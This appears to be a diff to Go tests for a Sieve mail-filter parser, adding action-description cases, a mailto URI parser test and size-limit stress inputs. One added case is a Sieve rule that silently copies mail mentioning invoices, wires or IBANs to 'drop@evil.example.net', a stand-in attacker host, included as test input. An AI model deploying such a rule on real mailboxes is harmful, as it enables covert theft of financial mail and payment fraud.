@@ -76,6 +76,10 @@ func TestActions(t *testing.T) {
 		{"encoded characters", `require "encoded-character"; redirect "a${hex:40}${unicode: 62 2e}example";`, "1 redirect a@b.example [diverts]"},
 		{"no encoded characters", `require "fileinto"; fileinto "${hex:40}";`, "1 fileinto ${hex:40}"},
 		{"variables", `require "variables"; set :lower "v" "A@B"; set "w" "${V}.example"; redirect "${w}"; redirect "${x}";`, "1 redirect a@b.example [diverts]\n1 redirect ${x} [diverts]"},
+		{"copy of what is about money", "require [\"copy\",\"body\"];\nif anyof (header :contains \"subject\" [\"invoice\",\"wire\"], body :contains \"IBAN\") { redirect :copy \"drop@evil.example.net\"; }",
+			`2 redirect drop@evil.example.net [copy] if header "subject" contains "invoice" or "wire" or the body contains "IBAN"`},
+		{"a variable out of the message", `require ["vnd.dovecot.pipe", "copy", "imapsieve", "environment", "variables"];` + "\n" +
+			`if environment :matches "imap.user" "*" { set "username" "${1}"; } pipe :copy "sa-learn-spam.sh" [ "${username}" ];`, "2 pipe sa-learn-spam.sh ${username} [copy]"},
 		{"each part", `require "foreverypart"; foreverypart { discard; }`, "1 discard [drops] if in each part"},
 		{"capitals and comments", "/* a */ IF TRUE # b\n{ KEEP; }", "2 keep if always"},
 		{"an extension if it is there", `require "ihave"; if ihave "fileinto" { fileinto "x"; }`, "1 fileinto x if ihave \"fileinto\""},
@@ -147,6 +151,18 @@ func TestOffered(t *testing.T) {
 	}
 }
 
+func TestMailto(t *testing.T) {
+	for uri, want := range map[string]string{
+		"mailto:a@b.example": "a@b.example true", "MAILTO:a%40b.example%2Cc@d.example?cc=e@f.example&subject=x%20y&bcc=g@h.example": "a@b.example c@d.example e@f.example true",
+		"mailto:": " true", "mailto:?to=a@b.example": "a@b.example true", "mailto:a": " false", "xmpp:a@b": " false", "mailto:a@b,c@d": " false", "mailto:a@b?x#=y": " false", "mailto:%4": " false", "": " false",
+	} {
+		to, ok := Mailto(uri)
+		if got := fmt.Sprintf("%s %v", strings.Join(to, " "), ok); got != want {
+			t.Errorf("%s: %s, want %s", uri, got, want)
+		}
+	}
+}
+
 // TestMay: a variable of several values makes several targets.
 func TestMay(t *testing.T) {
 	s := Parse(`require "variables"; set "v" "a@b.example"; if exists "x" { set "v" "c@d.example"; } redirect "${v}";`, Options{})
@@ -161,7 +177,7 @@ func TestHostile(t *testing.T) {
 		"x", "\"", "\n", "(", "\\", "if true {", "keep;", "if true {} elsif true {} ", "if exists \"a\" {keep;} elsif exists \"b\" {keep;} ", "[", "[\"a\",", "\"a\",", "# \n", "/*", "/**/", "text:\n", ":a ", "not ", "1", "1 ",
 		"require \"copy\";", "if anyof (true, ", "true,", "..\n", "redirect \"a@b.example\";\n", "{", "}", "require \"x\";", "elsif exists \"b\" {keep;} ",
 	} {
-		for _, start := range []string{"", "if anyof (", "redirect [", "redirect text:\n", "if exists \"a\" {keep;} "} {
+		for _, start := range []string{"", "if anyof (", "redirect [", "if exists \"a\" {keep;} "} {
 			started := time.Now()
 			s := Parse(start+strings.Repeat(piece, 10<<20/len(piece)), Options{MaxSize: 10 << 20})
 			for _, a := range s.Actions {
